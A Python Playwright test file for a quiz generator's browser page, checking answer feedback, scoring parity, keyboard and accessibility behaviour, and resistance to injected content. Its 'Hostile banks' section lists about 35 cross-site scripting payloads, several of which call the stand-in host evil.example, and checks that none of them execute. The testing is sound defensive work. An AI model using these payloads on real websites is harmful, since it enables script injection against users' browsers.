"""The quiz in a real browser: what a candidate sees, presses and is told, and what the page cannot be made to do."""

import random
import re
import shutil
import unicodedata
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from importlib.resources import files
from itertools import product
from pathlib import Path
from typing import Any, Literal

import pytest
from playwright.sync_api import Browser, Locator, Page, sync_playwright

from quizgen.bank import Bank
from quizgen.form import Form, FormItem, Settings, record
from quizgen.items import ITEM_TYPES
from quizgen.items.base import Response, letter
from quizgen.items.scoring import PLAIN, Scoring, ScoringRule, earned
from quizgen.render.screen import quiz_page

from .strategies import file_of
from .test_page import EXAM, FORMS, PRACTICE, form_from, form_of, page_of, picture, plain

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
SWITCHES = (
    "--no-sandbox --disable-gpu --no-first-run --disable-background-networking --disable-component-update "
    "--disable-sync"
).split()

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt-get install chromium")

BOTH_MODES = pytest.mark.parametrize("settings", [EXAM, PRACTICE], ids=["exam", "practice"])
PHONE, DESK = 320, 1280


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    try:
        play = sync_playwright().start()
    except Exception as problem:  # its driver is a program of its own, and may lack a library
        pytest.skip(f"the driver of the browser does not start here: {problem}")
    try:
        started = play.chromium.launch(executable_path=CHROMIUM, args=SWITCHES)
        yield started
        started.close()
    finally:
        play.stop()


@contextmanager
def opened(browser: Browser, path: Path, content: bytes, **context: Any) -> Iterator[Page]:
    """The page as a file in a browser of its own. It may ask for nothing else, and must not complain."""
    path.write_bytes(content)
    tab = browser.new_context(**context)
    try:
        page = tab.new_page()
        page.set_default_timeout(10_000)
        asked: list[str] = []
        complaints: list[str] = []
        tab.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.goto(path.as_uri())
        yield page
        assert [url for url in asked if not url.startswith("data:image/")] == [path.as_uri()]
        assert not complaints
    finally:
        tab.close()


@contextmanager
def quiz(browser: Browser, folder: Path, form: Form, settings: Settings, **context: Any) -> Iterator[Page]:
    """The page of a form, opened."""
    with opened(browser, folder / "quiz.html", quiz_page(form, settings), **context) as page:
        yield page


# --- Practice: what is right is called right --------------------------------------------------------------------

Outcome = Literal["right", "partly", "wrong"]
SAID = {"right": "Right.", "partly": "Partly right.", "wrong": "Not right.", "none": "There is no answer yet."}
PARTIAL = ("multiple_response", "matching", "ordering", "cloze")
ANSWERED = [(kind, said) for kind in ITEM_TYPES if kind != "essay" for said in ("right", "partly", "wrong")]


def written(kind: str, key: list[str], letters: list[str], outcome: Outcome) -> list[str]:
    """What to write to get the outcome: letters of options, or texts, one for each field."""
    others = [name for name in letters if name not in key]
    if kind == "matching":
        key = [mark.partition("-")[2] for mark in key]
        wrong = next(name for name in letters if name not in key)
        return {"right": key, "partly": [key[0], *[wrong] * (len(key) - 1)], "wrong": [wrong] * len(key)}[outcome]
    if outcome == "right":
        return key[:1] if kind == "short_answer" else key
    if outcome == "wrong":
        wrong_of = {"multiple_choice": others[:1], "multiple_response": others, "true_false": others,
                    "ordering": key[::-1]}  # fmt: skip
        return wrong_of.get(kind, ["no such thing"] * (len(key) if kind == "cloze" else 1))
    return {"multiple_response": key[:1], "ordering": [key[1], key[0], *key[2:]], "cloze": [*key[:-1], "?"]}[kind]


def fill_in(item: Locator, kind: str, texts: Sequence[str]) -> None:
    """Answers as a person would."""
    for place, text in enumerate(texts):
        match kind:
            case "multiple_choice" | "multiple_response" | "true_false":
                item.locator(f'input[value="{text}"]').check()
            case "matching":
                item.locator("select").nth(place).select_option(text)
            case "ordering":
                while (marks := item.locator(".entries b").all_text_contents()).index(text) > place:
                    item.get_by_role("button", name=f"Move {text} up").click()
                if (
                    marks == list(texts)
                    and place == len(texts) - 1
                    and (keep := item.locator(".ordered button")).is_visible()
                ):
                    keep.click()
            case _:
                item.get_by_role("textbox").nth(place).fill(text)


def place_of(form: Form, kind: str) -> FormItem:
    """The first item of the type."""
    return next(placed for placed in form.items if placed.item.type == kind)


@pytest.mark.parametrize(("kind", "outcome"), [case for case in ANSWERED if case[1] != "partly" or case[0] in PARTIAL])
def test_practice_tells_what_is_right(
    browser: Browser, tmp_path: Path, kind: str, outcome: Literal["right", "partly", "wrong"]
) -> None:
    form = form_of("tides")
    placed = place_of(form, kind)
    listed = next(item for item in record(form).items if item.number == placed.number)
    key = [str(listed.key)] if isinstance(listed.key, int | float) else list(listed.key or ())
    letters = ["T", "F"] if kind == "true_false" else [letter(place) for place in range(len(listed.options))]
    with quiz(browser, tmp_path, form, PRACTICE) as page:
        item = page.locator(f"#q{placed.number}")
        fill_in(item, kind, written(kind, key, letters, outcome))
        item.get_by_role("button", name="Check").click()
        assert item.get_by_role("status").text_content() == SAID[outcome]
        assert item.get_by_text(plain(placed.item.rationale or "")).is_visible()
        for quotation in placed.item.evidence or ():
            assert item.get_by_text(quotation.quote or "").is_visible()


@pytest.mark.parametrize("kind", sorted(ITEM_TYPES))
def test_practice_waits_for_an_answer(browser: Browser, tmp_path: Path, kind: str) -> None:
    form = form_of("tides")
    placed = place_of(form, kind)
    with quiz(browser, tmp_path, form, PRACTICE) as page:
        item = page.locator(f"#q{placed.number}")
        item.get_by_role("button", name="Check").click()
        assert item.get_by_role("status").text_content() == SAID["none"]
        assert not item.get_by_text(plain(placed.item.rationale or "")).is_visible()


def test_practice_shows_the_rubric_of_an_essay(browser: Browser, tmp_path: Path) -> None:
    form = form_of("tides")
    with quiz(browser, tmp_path, form, PRACTICE) as page:
        item = page.locator(f"#q{place_of(form, 'essay').number}")
        item.get_by_role("textbox").fill("Because the pull differs.")
        item.get_by_role("button", name="Check").click()
        assert item.get_by_role("status").text_content() == "Compare your answer with the rubric."
        assert item.get_by_text("It names the cause").is_visible()


def test_a_verdict_goes_when_the_answer_changes(browser: Browser, tmp_path: Path) -> None:
    form = form_of("tides")
    with quiz(browser, tmp_path, form, PRACTICE) as page:
        item = page.locator(f"#q{place_of(form, 'short_answer').number}")
        item.get_by_role("textbox").fill("luna")
        item.get_by_role("button", name="Check").click()
        assert item.locator(".verdict.right").count() == 1
        item.get_by_role("textbox").press_sequentially("tic")
        assert item.get_by_role("status").text_content() == ""
        assert item.locator(".verdict.right").count() == 0


def test_without_javascript_an_answer_is_one_click_away(browser: Browser, tmp_path: Path) -> None:
    form = form_of("tides")
    with quiz(browser, tmp_path, form, PRACTICE, java_script_enabled=False) as page:
        assert page.locator(".check").count() == 0
        for placed in form.items:
            item = page.locator(f"#q{placed.number}")
            rationale = item.get_by_text(plain(placed.item.rationale or ""))
            assert not rationale.is_visible()
            item.get_by_text("Show the answer").click()
            assert rationale.is_visible()


# --- Practice and Python agree ----------------------------------------------------------------------------------

# Answers that keyboards, languages and Unicode write in several ways, and numbers as they are typed in several lands.
ANSWERS = [
    "the Moon's", "naïve café", "Straße", "İstanbul", "ΟΔΥΣΣΕΥΣ", "Ångström", "twenty-one", "“so-called”", "1984",
    "ﬁnal", "ılık", "Việt Nam", "日本", "مَرْحَبًا", "שָׁלוֹם", "don’t – stop", "ᾳ", "ǰ", "x²", "№ 5", "C++", "<b>",
    "naïve", "Ⅷ", "ẞ", "हिन्दी",
]  # fmt: skip
NUMBERS = [("25000", "0"), ("25", "0"), ("-3", "0"), ("1234.5", "0.1"), ("0.1", "0.2"), ("16.1", "0.1"), ("3", "0.5"),
           ("1000", "0"), ("0", "0"), ("-0.5", "0.25")]  # fmt: skip
TYPED = [
    "25,000", "25 000", "25.000", "25000.0", "1.234,5", "1,234.5", "1234,5", "1 234,5", "−3", "-3", "–3", "- 3", "+25",
    "25.", "٢٥", "２５", "١٢٣٤.٥", "1_000", "0,3", "0.30000000000000004", ".3", "1e3", "1E+3", "1e−1", "1e400", "inf",
    "nan", "0x10", "x", "3 apples", "16,2", "16.2000001", "16.0", "\u00a03\u00a0", "3,5", "--3", "", " ", "²", "1,000",
    "-0,75", "-0.76", "5e-1", "1,00", "0" * 70 + "3", "\ufeff3", "−0", "0e5",
]  # fmt: skip


def variants(text: str, chance: random.Random) -> str:
    """The text, or another, as somebody might type it."""
    bare = "".join(char for char in unicodedata.normalize("NFD", text) if not unicodedata.combining(char))
    place = chance.randrange(len(text) + 1)
    return chance.choice([
        text, text, text.upper(), text.lower(), text.title(), text.swapcase(), text.casefold(), bare, bare.upper(),
        unicodedata.normalize("NFD", text), unicodedata.normalize("NFD", text).lower(), text.replace("’", "'"),
        text.replace("“", '"').replace("”", "«"), text.replace("-", "−").replace("–", "-"), text.replace("'", "`"),
        f"{text[:place]}\u00ad{text[place:]}", f"{text[:place]} {text[place:]}", f"  {text}\u00a0", f"{text}.",
        f"{text[:place]}!{text[place:]}", text.replace(" ", "\u2003 "), text.replace("ı", "i"), text.replace("i", "ı"),
        text[:-1], f"{text}x", "", " ", "!", "\ufeff" + text, chance.choice(ANSWERS),
    ])  # fmt: skip


def sampled_records(chance: random.Random, count: int) -> Iterator[dict[str, Any]]:
    """Items of every type that is not marked by hand, as an author would write them."""
    for number in range(count):
        ignore = chance.sample(["case", "accents", "punctuation"], chance.randrange(4))
        answers = ANSWERS
        options = [f"Option {name} < {number}" for name in chance.sample(range(100), 7)]
        right = chance.randrange(1, 6)
        answer, tolerance = NUMBERS[number % len(NUMBERS)]
        gaps = " and ".join(f"{{{{{gap}}}}}" for gap in chance.sample(answers, 3))
        bodies: dict[str, dict[str, Any]] = {
            "multiple_choice": {"answer": options[0], "distractors": options[1:4]},
            "multiple_response": {"answers": options[:right], "distractors": options[right:]},
            "true_false": {"answer": chance.choice(["true", "false"])},
            "short_answer": {"answers": [answers[number % len(answers)]], "ignore": ignore},
            "numeric": {"answer": answer, "tolerance": tolerance},
            "matching": {"pairs": {f"Prompt {n}": options[n % 3] for n in range(4)}, "distractors": options[3:]},
            "ordering": {"sequence": options[: chance.randrange(2, 6)]},
            "cloze": {"text": gaps, "ignore": ignore},
        }
        for kind, body in bodies.items():
            yield {
                "id": f"{kind.replace('_', '-')}-{number}",
                "type": kind,
                "stem": "Stem",
                "points": 1 + number % 4 / 2,
                **body,
            }


def sampled_response(placed: FormItem, chance: random.Random) -> tuple[list[str], Response]:
    """What is put into the fields, or the letters that are picked; and the same as Python scores it, by ids."""
    item = placed.item
    key: Any = item.correct_response()
    ids = [choice.id for choice in item.printed]
    letters = dict(zip("TF" if item.type == "true_false" else map(letter, range(26)), ids, strict=False))
    match item.type:
        case "multiple_choice" | "true_false":
            picked = chance.choice(list(letters))
            return [picked], letters[picked]
        case "multiple_response":
            chosen = [name for name in letters if chance.random() < (0.85 if letters[name] in key else 0.25)]
            return chosen, [letters[name] for name in chosen]
        case "matching":
            right = {ids_: name for name, ids_ in letters.items()}
            given = [chance.choice([right[key[prompt.id]], chance.choice(["", *letters])]) for prompt in item.prompts]
            return given, {prompt.id: letters[name] for prompt, name in zip(item.prompts, given, strict=True) if name}
        case "ordering":
            names = {ids_: name for name, ids_ in letters.items()}
            given = [names[name] for name in key]
            for _ in range(chance.randrange(3)):
                given[chance.randrange(len(given))] = chance.choice(["", *letters])
            if chance.random() < 0.3:
                chance.shuffle(given)
            return given, [letters.get(name) for name in given]
        case "numeric":
            typed = chance.choice([*TYPED, key, key, f"{key}0" if "." in key else f"{key},0", f"−{key}"])
            return [typed], typed
        case "short_answer":
            typed = variants(key, chance)
            return [typed], typed
        case _:
            texts = [variants(text, chance) for text in key]
            return texts, texts


# Puts each response into its item, presses Check, and reads what is said.
TRY = """(trials) => trials.map(([number, given]) => {
  const item = document.getElementById(`q${number}`);
  const picks = [...item.querySelectorAll("input[type=radio], input[type=checkbox]")];
  for (const input of picks) input.checked = given.includes(input.value);
  const fields = picks.length ? [] : [...item.querySelectorAll("input, select")];
  fields.forEach((field, place) => { field.value = given[place]; });
  item.querySelector(".check").click();
  return item.querySelector(".verdict").textContent;
})"""


STRICT = Scoring(wrong=-0.25, partial=False, types={"matching": ScoringRule(wrong=-0.5), "numeric": ScoringRule()})


@pytest.mark.parametrize("scoring", [PLAIN, STRICT], ids=["as usual", "strict"])
def test_the_page_and_python_agree_on_every_response(browser: Browser, tmp_path: Path, scoring: Scoring) -> None:
    chance = random.Random(1931)
    record_ = {
        "article": {"id": "parity", "title": "Parity", "language": "en"},
        "items": list(sampled_records(chance, 26)),
    }
    form = replace(form_from(Bank((file_of(record_),))), scoring=scoring)
    trials = [(placed, *sampled_response(placed, chance)) for placed in form.items for _ in range(12)]
    with quiz(browser, tmp_path, form, PRACTICE) as page:
        told = page.evaluate(TRY, [[placed.number, given] for placed, given, _ in trials])
    seen: Counter[tuple[str, str]] = Counter()
    disagreed = []
    for (placed, given, response), verdict in zip(trials, told, strict=True):
        score = earned(placed.item, response, scoring.rule(placed.item.type))
        assert score is not None
        outcome = "right" if score == placed.item.points else "partly" if score > 0 else "wrong"
        if not any(text.strip() for text in given):
            outcome = "none" if outcome == "wrong" else outcome
        seen[placed.item.type, outcome] += 1
        if not says(verdict, SAID[outcome], score if scoring is STRICT and outcome != "none" else None):
            disagreed.append((placed.item.type, placed.item.correct_response(), given, outcome, verdict))
    assert not disagreed
    for kind, outcome in ANSWERED:
        possible = outcome != "partly" or (kind in PARTIAL and scoring.rule(kind).partial)
        assert seen[kind, outcome] >= (10 if possible else 0), (kind, outcome)


def says(verdict: str, outcome: str, score: float | None) -> bool:
    """Whether the page says the outcome, and the points if there are any to say, to the hundredth."""
    told = re.fullmatch(r"(.*?\.)(?: (−?[\d.]+) points?)?", verdict)
    points = float(told[2].replace("−", "-")) if told and told[2] else None
    exact = points is None if score is None else points is not None and abs(points - score) < 0.0051
    return told is not None and told[1] == outcome and exact


# --- Everybody can use it ---------------------------------------------------------------------------------------


def test_an_exam_needs_no_script(browser: Browser, tmp_path: Path) -> None:
    with quiz(browser, tmp_path, form_of("all"), EXAM, java_script_enabled=False) as page:
        assert page.get_by_role("note").text_content() == (
            "Answer on this page, then print it. In this browser the page cannot save your answers."
        )
        assert page.get_by_role("button").count() == 0
        assert page.get_by_role("group").count() == len(list(form_of("all").items))


@BOTH_MODES
def test_the_tab_key_reaches_every_field_in_order(browser: Browser, tmp_path: Path, settings: Settings) -> None:
    form = form_of("tides")
    moved = "ancestor::fieldset//ol[@class='entries']"  # entries are moved by buttons
    fields = [field for field in page_of(form, settings).iter("input", "textarea") if not field.xpath(moved)]
    named = [(field.get("name"), field.get("type") == "radio") for field in fields]
    expected = [name for place, (name, radio) in enumerate(named) if not (radio and named[place - 1][0] == name)]
    with quiz(browser, tmp_path, form, settings) as page:
        page.keyboard.press("Tab")
        assert page.locator(":focus").text_content() == "Skip to the questions"
        reached: list[str] = []
        while page.locator(":focus").count() and len(reached) < 500:
            reached.append(page.evaluate("document.activeElement.name || document.activeElement.className"))
            page.keyboard.press("Tab")
        assert [name for name in reached if name in expected] == expected
        assert reached.count("passage") == sum(item_set.passage is not None for item_set in form.sets)
        assert reached.count("check") == (len(list(form.items)) if settings is PRACTICE else 0)


def test_the_keyboard_alone_scrolls_a_passage_that_is_higher_than_the_window(browser: Browser, tmp_path: Path) -> None:
    with quiz(browser, tmp_path, form_of("tides"), EXAM, viewport={"width": DESK, "height": 300}) as page:
        passage = page.locator(".passage").first
        for _ in range(10):
            page.keyboard.press("Tab")
            if passage.evaluate("element => element === document.activeElement"):
                break
        page.keyboard.press("End")
        page.wait_for_function(
            "element => element.scrollTop + element.clientHeight >= element.scrollHeight - 1",
            arg=passage.element_handle(),
        )
        assert passage.evaluate("element => element.scrollTop") > 0


@BOTH_MODES
@pytest.mark.parametrize("name", FORMS)
def test_nothing_is_cut_off_and_targets_are_large(
    browser: Browser, tmp_path: Path, settings: Settings, name: str
) -> None:
    with quiz(browser, tmp_path, form_of(name), settings) as page:
        open_answers(page)
        for width in (PHONE, 390, 768, DESK):
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.scrollingElement.scrollWidth") <= width
            targets = page.locator(".options label, input[type=text], select, textarea, button, summary")
            small = targets.evaluate_all(
                "found => found.map((target) => [target.outerHTML.slice(0, 60), target.getBoundingClientRect()])"
                ".filter(([, box]) => box.width && (box.height < 44 || box.width < 44)).map(([what]) => what)"
            )
            assert not small, width


def open_answers(page: Page) -> None:
    """Answers everything, and presses every Check where there is one."""
    page.evaluate("""() => {
      for (const field of document.querySelectorAll("input[type=text], textarea")) field.value = "moon";
      for (const field of document.querySelectorAll("select")) field.selectedIndex = 1;
      for (const input of document.querySelectorAll("label:first-child > input[type=radio]")) input.checked = true;
      for (const input of document.querySelectorAll("input[type=checkbox]")) input.checked = true;
      for (const button of document.querySelectorAll(".check")) button.click();
    }""")


AXE = (files("axe_playwright_python") / "axe.min.js").read_text(encoding="utf-8")
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
RUN_AXE = """async (rules) => (await axe.run(document, {runOnly: rules, resultTypes: ["violations"]})).violations
  .map((found) => [found.id, found.help, ...found.nodes.map((node) => node.html)])"""


def assert_axe_finds_nothing(page: Page, widths: tuple[int, int] = (390, 1280)) -> None:
    """On a page that is open: in light and dark, and at these widths, where nothing runs out of the page either."""
    schemes: tuple[Literal["light", "dark"], ...] = ("light", "dark")
    page.evaluate(AXE)
    for width, scheme in product(widths, schemes):
        page.set_viewport_size({"width": width, "height": 800})
        page.emulate_media(color_scheme=scheme)
        assert page.evaluate(RUN_AXE, RULES) == [], (width, scheme)
        assert page.evaluate("document.documentElement.scrollWidth") <= width


@BOTH_MODES
@pytest.mark.parametrize("name", FORMS)
def test_axe_finds_nothing(browser: Browser, tmp_path: Path, settings: Settings, name: str) -> None:
    with quiz(browser, tmp_path, form_of(name), settings) as page:
        open_answers(page)
        assert_axe_finds_nothing(page, (PHONE, DESK))


@BOTH_MODES
def test_dark_is_dark_and_light_is_light(browser: Browser, tmp_path: Path, settings: Settings) -> None:
    grounds = {}
    for scheme in ("light", "dark"):
        context: dict[str, Any] = {"color_scheme": scheme}
        with quiz(browser, tmp_path, form_of("tides"), settings, **context) as page:
            grounds[scheme] = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
    assert grounds == {"light": "rgb(255, 255, 255)", "dark": "rgb(23, 25, 27)"}


# --- Hostile banks ----------------------------------------------------------------------------------------------

# Each would set `window.pwned` or ask for something, if a browser took it for more than text.
HOSTILE = [
    "<script>window.pwned=1</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "\"><img src=x onerror=window.pwned=1>",
    "'><img src=x onerror=window.pwned=1>",
    "\" autofocus onfocus=\"window.pwned=1",
    "' onmouseover='window.pwned=1",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<!--</script><script>window.pwned=1</script>-->",
    "</fieldset></section></main><iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<math><mi><mglyph><style><img src=x onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/x.swf></object>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "`<script>window.pwned=1</script>`",
    "{% raw %}</script>{% endraw %}{{ 7 * 7 }}${window.pwned=1}",
    "\u2028</script><script>window.pwned=1</script>\u2029",
    "[click](https://evil.example/\"onmouseover=\"window.pwned=1)",
    "[click](https://evil.example/' onmouseover='window.pwned=1)",
    "![alt\" onerror=\"window.pwned=1](swing.png)",
    "![<script>window.pwned=1</script>](swing.png \"onload=window.pwned=1\")",
    "```\"onmouseover=\"window.pwned=1\n</code></pre><script>window.pwned=1</script>\n```",
]  # fmt: skip


def hostile_form() -> Form:
    """A form in which every text is hostile."""
    items: list[dict[str, Any]] = []
    for number, text in enumerate(HOSTILE):
        line = " ".join(text.split())
        bodies: list[dict[str, Any]] = [
            {"type": "multiple_choice", "answer": {"text": line, "why": text}, "distractors": [f"{line} {line}", "b"]},
            {"type": "short_answer", "answers": [line]},
            {"type": "matching", "pairs": {line: f"a {line}", f"b {line}": f"c {line}"}, "distractors": [line]},
            {"type": "ordering", "sequence": [line, f"{line} {line}"]},
            {"type": "cloze", "text": f"{text}\n\n{{{{{line.replace('{', '').replace('}', '').replace('|', '')}}}}}"},
            {"type": "numeric", "answer": "1", "unit": line},
            {"type": "essay", "rubric": [line]},
        ]
        passage = {"passage": f"p{number}", "evidence": text}
        items += [
            {"id": f"i{number}-{place}", "stem": text, "rationale": text, **body, **(passage if place == 0 else {})}
            for place, body in enumerate(bodies)
        ]
    passages = [{"id": f"p{n}", "heading": " ".join(text.split()), "text": text} for n, text in enumerate(HOSTILE)]
    source = {"title": HOSTILE[6], "author": HOSTILE[0], "publisher": HOSTILE[8]}
    article = {"id": "hostile", "title": HOSTILE[11], "language": "en", "source": source, "license": HOSTILE[2]}
    file = file_of({"article": article, "passages": passages, "items": items})
    object.__setattr__(file, "images", {"swing.png": picture()})
    return form_from(Bank((file,)))


PROVOKE = """() => {
  for (const element of document.querySelectorAll("*")) {
    for (const kind of ["mouseover", "focus", "load", "error", "toggle"]) element.dispatchEvent(new Event(kind));
  }
}"""
PWNED = "() => window.pwned"


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without it"])
@BOTH_MODES
def test_hostile_texts_stay_texts(browser: Browser, tmp_path: Path, settings: Settings, policy: bool) -> None:
    content = quiz_page(hostile_form(), settings)
    if not policy:
        content, removed = re.subn(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", content)
        assert removed == 1
    with opened(browser, tmp_path / "hostile.html", content) as page:
        open_answers(page)
        page.evaluate(PROVOKE)
        assert page.evaluate(PWNED) is None
        assert page.locator("script").count() == (3 if settings is PRACTICE else 2)
        foreign = "iframe, object, embed, form, base, link, svg:not(.icon), meta[http-equiv=refresh]"
        assert page.locator(foreign).count() == 0
        assert page.get_by_text(HOSTILE[0]).count() > 0


def test_a_page_that_does_run_something_would_be_noticed(browser: Browser, tmp_path: Path) -> None:
    """The test above would hold for a browser that runs nothing, too."""
    with (
        pytest.raises(AssertionError),
        opened(browser, tmp_path / "trap.html", b"<!DOCTYPE html><img src=x onerror=window.pwned=1>") as page,
    ):
        page.wait_for_function("window.pwned")
